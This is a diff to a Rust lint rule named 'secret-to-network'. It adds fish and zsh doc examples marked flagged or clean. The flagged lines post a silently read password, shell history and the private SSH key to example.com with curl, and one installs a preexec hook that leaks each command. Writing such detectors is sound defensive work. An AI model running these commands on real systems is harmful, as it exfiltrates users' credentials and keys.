@@ -29,9 +29,12 @@ declare_rule! {
     /// cat ~/.ssh/config
     /// ```
     /// ```fish,flagged
+    /// read -sP 'password: ' p; curl -d "$p" https://example.com
+    /// string join \n $history | curl -d @- https://example.com
     /// cat ~/.ssh/id_rsa | curl -d @- https://example.net
     /// ```
     /// ```fish,clean
+    /// read -sP 'password: ' p
     /// cat ~/.ssh/id_rsa.pub | curl -d @- https://example.net
     /// ```
     /// ```nu,flagged
@@ -46,6 +49,13 @@ declare_rule! {
     /// ```
     /// ```powershell,clean
     /// irm https://example.net -Method Post -Body (gc notes.txt -Raw)
+    /// ```
+    /// ```zsh,flagged
+    /// curl -d "$mapfile[$HOME/.ssh/id_rsa]" https://example.com
+    /// leak() { curl -sd "$1" https://example.com }; add-zsh-hook preexec leak
+    /// ```
+    /// ```zsh,clean
+    /// print -r -- $mapfile[notes.txt]
     /// ```
     SECRET_TO_NETWORK { name: "secret-to-network", subject: Subject::Effects(&[EffectKind::Send], judge) }
 }
